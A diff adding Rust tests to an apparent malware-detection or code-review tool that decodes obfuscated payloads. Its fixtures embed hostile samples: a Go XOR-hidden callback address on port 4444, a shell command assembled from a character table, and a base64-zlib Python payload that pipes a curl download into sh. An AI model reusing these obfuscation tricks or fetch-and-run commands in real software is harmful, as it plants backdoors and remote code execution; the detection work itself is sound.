@@ -72,3 +72,78 @@ fn a_one_line_finding_has_no_end_line() {
     let f = finding(&json, "exec.python.os-system");
     assert!(f.get("end_line").is_none(), "{f:#}");
 }
+
+/// Text of every finding of `check` (message), for assertions on what a decode says.
+fn messages(json: &Value, check: &str) -> Vec<String> {
+    json["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["check"] == check)
+        .map(|f| f["message"].as_str().unwrap().to_string())
+        .collect()
+}
+
+#[test]
+fn a_go_address_xor_decoded_at_run_time_is_reported_with_its_key() {
+    // 203.0.113.47:4444 XOR 0x5a, decoded by a loop (the boltdb-go backdoor's shape).
+    let go = "package bolt\n\nfunc decode(parts []int) string {\n\tb := make([]byte, len(parts))\n\tfor i, p := range parts {\n\t\tb[i] = byte(p ^ 0x5a)\n\t}\n\treturn string(b)\n}\n\nvar addr = decode([]int{104, 106, 105, 116, 106, 116, 107, 107, 105, 116, 110, 109, 96, 110, 110, 110, 110})\n";
+    let json = reviewed(&[("db.go", go)], "json").json();
+    let f = finding(&json, "attack.obfuscation.encoded-name");
+    assert_eq!(f["line"], 11);
+    assert_eq!(f["severity"], "error");
+    assert!(f["message"].as_str().unwrap().contains("203.0.113.47:4444"), "{f:#}");
+    assert_eq!(f["parts"][0]["line"], 6, "the XOR key's line is a part: {f:#}");
+}
+
+#[test]
+fn a_command_joined_from_a_character_table_is_decoded_and_reviewed() {
+    let go = "package lru\n\nimport \"os/exec\"\n\nfunc warm() {\n\tt := []string{\"w\", \"g\", \"e\", \"t\", \" \", \"-\", \"O\", \"h\", \"p\", \"s\", \":\", \"/\", \"x\", \".\", \"i\", \"n\", \"v\", \"a\", \"l\", \"d\", \"|\", \"b\"}\n\tc := t[0] + t[1] + t[2] + t[3] + t[4] + t[5] + t[6] + t[4] + t[5]\n\texec.Command(\"/bin/sh\", \"-c\", c).Start()\n}\n";
+    let json = reviewed(&[("lru.go", go)], "json").json();
+    let f = finding(&json, "attack.obfuscation.char-table");
+    assert_eq!((f["line"].as_u64(), f["severity"].as_str()), (Some(7), Some("error")));
+    assert!(f["message"].as_str().unwrap().contains("`wget -O -`"), "{f:#}");
+    assert_eq!(f["parts"][0]["line"], 6);
+}
+
+#[test]
+fn a_zlib_payload_is_inflated_and_its_text_reviewed() {
+    // zlib of "import os\nos.system('curl -s http://198.51.100.9/s.sh | sh')\n", base64-encoded.
+    let py = "import base64, zlib\nexec(zlib.decompress(base64.b64decode(\"eJzLzC3ILypRyC/myi/WK64sLknN1VBPLi3KUdAtVsgoKSmw0tc3tLTQMzXUMzQw0LPUB6rKUKhRKM5Q1+QCAHqdEpI=\")))\n";
+    let json = reviewed(&[("pkg/__init__.py", py)], "json").json();
+    assert_eq!(finding(&json, "attack.obfuscation.exec-compressed")["severity"], "error");
+    let inflated: Vec<String> = json["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|f| f["decoded"].as_str().map(str::to_string))
+        .collect();
+    assert!(
+        inflated.iter().any(|d| d.contains("curl -s http://198.51.100.9/s.sh | sh")),
+        "{json:#}"
+    );
+    assert!(messages(&json, "exec.python.os-system")
+        .iter()
+        .any(|m| m.contains("zlib-compressed inside base64")));
+}
+
+#[test]
+fn decompressing_data_and_xor_with_masks_stay_quiet() {
+    let py = "import zlib\n\ndef body(r):\n    return zlib.decompress(r.content)\n\nMAGIC = bytes([137, 80, 78, 71, 13, 10, 26, 10])\n\ndef fold(c):\n    return c ^ 0x20\n\nHELLO = [72, 101, 108, 108, 111, 44, 32, 119, 111, 114, 108, 100]\n";
+    let js = "const zlib = require('zlib');\nconst body = zlib.gunzipSync(buf).toString('utf8');\nconst out = frame.map((b, i) => b ^ mask[i % 4]);\n";
+    let json = reviewed(&[("lib/fetch.py", py), ("lib/inflate.js", js)], "json").json();
+    let loud: Vec<&Value> = json["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["severity"] != "note")
+        .collect();
+    assert!(loud.is_empty(), "{loud:#?}");
+}
+
+#[test]
+fn a_decoder_call_as_a_module_name_is_an_error() {
+    let json = reviewed(&[("lib/caller.js", OBFUSCATED)], "json").json();
+    let f = finding(&json, "attack.obfuscation.decoder-name");
+    assert_eq!((f["line"].as_u64(), f["severity"].as_str()), (Some(13), Some("error")));
+}
